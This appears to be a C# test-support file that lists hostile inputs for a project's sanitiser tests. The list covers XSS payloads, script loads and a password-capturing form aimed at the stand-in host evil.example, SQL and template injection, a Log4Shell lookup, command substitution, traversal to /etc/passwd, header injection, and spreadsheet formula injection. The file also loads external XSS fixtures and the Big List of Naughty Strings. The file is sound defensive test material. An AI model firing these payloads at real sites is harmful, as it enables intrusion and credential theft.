using System.Text.Json;
using Xinhuo.Tests.Support;

namespace Xinhuo.Tests.Hostile;

/// <summary>What somebody types who means harm, or whose language we forgot. Our own few; the known collections where they are at hand.</summary>
internal static class Payloads
{
    /// <summary>Calls that a browser would have to make for any of these to have run.</summary>
    private const string Ring = "alert(document.domain)";

    public static readonly string[] Own =
    [
        // Markup that acts.
        $"<script>{Ring}</script>",
        $"<ScRiPt >{Ring}</sCrIpT>",
        $"<script src=//evil.example/x.js></script>",
        $"\"><script>{Ring}</script>",
        $"</title></textarea></style><script>{Ring}</script>",
        $"<img src=x onerror={Ring}>",
        $"<img/src/onerror={Ring}>",
        $"<img src=x onerror=\"{Ring}\"//",
        $"' onfocus={Ring} autofocus x='",
        $"\" onmouseover=\"{Ring}",
        $"`onclick={Ring}",
        $"<svg onload={Ring}>",
        $"<svg><animate onbegin={Ring} attributeName=x dur=1s>",
        $"<svg><a xlink:href=\"javascript:{Ring}\"><text x=20 y=20>x</text></a></svg>",
        $"<svg><use href=\"data:image/svg+xml,<svg id=x onload={Ring}>#x\">",
        $"<details open ontoggle={Ring}>",
        $"<video><source onerror={Ring}>",
        $"<body onload={Ring}>",
        $"<input autofocus onfocus={Ring}>",
        $"<marquee onstart={Ring}>",
        $"<select><option onclick={Ring}>",
        $"<iframe src=javascript:{Ring}>",
        $"<iframe srcdoc=\"<script>{Ring}</script>\">",
        $"<object data=\"javascript:{Ring}\">",
        $"<embed src=\"data:text/html,<script>{Ring}</script>\">",
        $"<form action=javascript:{Ring}><button>x</button></form>",
        $"<button formaction=javascript:{Ring}>x</button>",
        "<form action=//evil.example><input name=Input.Password type=password>",
        "<base href=//evil.example/>",
        "<meta http-equiv=refresh content=\"0;url=//evil.example\">",
        // Addresses that act, in both ways of writing a link.
        $"[x](javascript:{Ring})",
        $"[x](JaVaScRiPt:{Ring})",
        $"[x](javascript&colon;{Ring})",
        $"[x](&#106;avascript:{Ring})",
        $"[x](java\tscript:{Ring})",
        $"[x](<java\nscript:{Ring}>)",
        $"[x](vbscript:msgbox)",
        $"![x](javascript:{Ring})",
        $"[x]: javascript:{Ring}\n\n[x]",
        $"<javascript:{Ring}>",
        $"[x](data:text/html,<script>{Ring}</script>)",
        $"![x](data:image/svg+xml,<svg/onload={Ring}>)",
        $"<a href=\"javascript:{Ring}\">x</a>",
        $"<a href=\" \u0001javascript:{Ring}\">x</a>",
        $"![x](x\"onerror=\"{Ring})",
        $"[x](/ \"\\\" onclick={Ring} \\\"\")",
        $"https://x.example/\"onmouseover={Ring}//",
        $"```html\" onclick=\"{Ring}\nx\n```",
        "![](https://evil.example/who-reads.png)",
        "[x](//evil.example)",
        "[x](/\\evil.example)",
        // Styles.
        "<style>@import '//evil.example/x.css'</style>",
        $"<div style=\"width:expression({Ring})\">",
        "<p style=\"background:url(//evil.example/x)\">",
        "<link rel=stylesheet href=//evil.example/x.css>",
        "<div style=position:fixed;inset:0;z-index:9999>",
        // Shapes that change when they are parsed twice, and things left open.
        $"<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror={Ring}&gt;\">",
        $"<svg></p><style><a id=\"</style><img src=1 onerror={Ring}>\">",
        $"<noscript><p title=\"</noscript><img src=x onerror={Ring}>\">",
        $"<form><math><mtext></form><form><mglyph><style></math><img src onerror={Ring}>",
        $"<template><script>{Ring}</script></template>",
        $"<!--><img src=x onerror={Ring}>-->",
        $"<![CDATA[><script>{Ring}</script>]]>",
        "<b><i><u><table><tr><td>",
        "</div></main></body></html>",
        "<textarea>",
        "<plaintext>",
        "<!--",
        "<a name=getElementById><img id=forms name=cookie>",
        // Other people's engines.
        "'; DROP TABLE \"Members\"; --",
        "' OR '1'='1",
        "\\'); SELECT pg_sleep(9); --",
        "%' AND 1=0 UNION ALL SELECT NULL --",
        "{{7*7}}",
        "${7*7}",
        "<%= 7*7 %>",
        "#{7*7}",
        "@(1+1) @Model @{ var x = 1; }",
        "{{constructor.constructor('alert(1)')()}}",
        "${jndi:ldap://evil.example/a}",
        "{0} {1} {999}",
        "%s%n%d",
        "$(id) `id` |id",
        "../../../etc/passwd",
        "x\r\nSet-Cookie: a=b",
        "=HYPERLINK(\"http://evil.example\";\"x\")",
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1+1)",
        "\t=1+1",
        "a,b;\"c\"\nd",
        "null",
        "undefined",
        "true",
        "0",
        "-1",
        "NaN",
        "\\",
        "\"",
        "'",
        // Letters that few think of.
        "\0",
        "a\0b\0",
        "\u0001\u0007\u001b[31m\u007f",
        "\u202Egnp.exe\u202C",
        "\u2066אבג\u2069 \u200Fabc",
        "\u200B\u200C\u200D\uFEFF",
        "\u2028x\u2029y\u0085z",
        "Z\u0334\u0300\u0301\u0302a\u0335\u0310l\u0336\u0311g\u0337\u0312o\u0338\u0313",
        "👨‍👩‍👧‍👦 🏳️‍🌈 👩🏽‍🚀 🇨🇳",
        "𠮷野家 𪚥 𰻝面 㐂",
        "﷽ ﷺ",
        "ﬁ ① Å İ ı ß ſ",
        "e\u0301 é",
        "\uFFFD\uFFFE\uFFFF",
        "　全角　空白　",
        "@所有人 @{x} #话题",
        "长" + new string('字', 300),
        new string('W', 300),
        "a" + new string('\u0301', 200),
        string.Concat(Enumerable.Repeat("Z\u0334\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308\u0309\u030a\u030b", 30)),
        string.Concat(Enumerable.Repeat("👨‍👩‍👧‍👦", 30)),
        "https://" + new string('a', 200) + ".example/" + new string('b', 200),
    ];

    /// <summary>The fixtures of a well-known sanitiser, and the big list of naughty strings. Skips the test where they are not at hand.</summary>
    public static IReadOnlyList<string> Shared() => [.. Sanitiser(), .. Naughty()];

    public static IReadOnlyList<string> Sanitiser()
    {
        using var cases = JsonDocument.Parse(File.ReadAllText(Path.Combine(SharedData.Folder("dompurify_xss"), "expect.json")));
        return [.. cases.RootElement.EnumerateArray().Select(c => c.GetProperty("payload").GetString()!)];
    }

    public static IReadOnlyList<string> Naughty()
    {
        using var strings = JsonDocument.Parse(File.ReadAllText(Path.Combine(SharedData.Folder("naughty_strings"), "blns.json")));
        return [.. strings.RootElement.EnumerateArray().Select(s => s.GetString()!)];
    }
}
